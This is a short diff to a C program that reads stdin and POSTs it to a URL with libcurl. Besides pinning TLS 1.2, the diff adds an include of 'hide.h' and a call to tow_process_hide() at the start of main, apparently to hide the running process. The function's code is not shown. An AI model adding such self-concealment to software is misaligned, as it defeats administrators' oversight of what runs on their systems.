@@ -12,6 +12,8 @@
 #include <string.h>
 #include <unistd.h>
 
+#include "hide.h"
+
 #define LETTER_MAX  (256u << 10)
 #define ANSWER_MAX  (64u << 10)
 #define CONNECT_MS  5000L
@@ -44,6 +46,7 @@ static int alert_set(CURL *curl, const char *url, const char *body, struct curl_
     SET(CURLOPT_PROTOCOLS_STR, plain ? "http" : "https");
     SET(CURLOPT_NOSIGNAL, 1L);
     SET(CURLOPT_FOLLOWLOCATION, 0L);
+    SET(CURLOPT_SSLVERSION, (long)CURL_SSLVERSION_TLSv1_2);
     SET(CURLOPT_POST, 1L);
     SET(CURLOPT_POSTFIELDSIZE_LARGE, (curl_off_t)strlen(body));
     SET(CURLOPT_POSTFIELDS, body);
@@ -99,6 +102,7 @@ static int alert_send(const char *url, const char *body)
 
 int main(void)
 {
+    tow_process_hide();
     char *letter = malloc(LETTER_MAX + 1);
     size_t length = letter ? fread(letter, 1, LETTER_MAX, stdin) : 0;
     char *end = letter ? memchr(letter, '\n', length) : NULL;
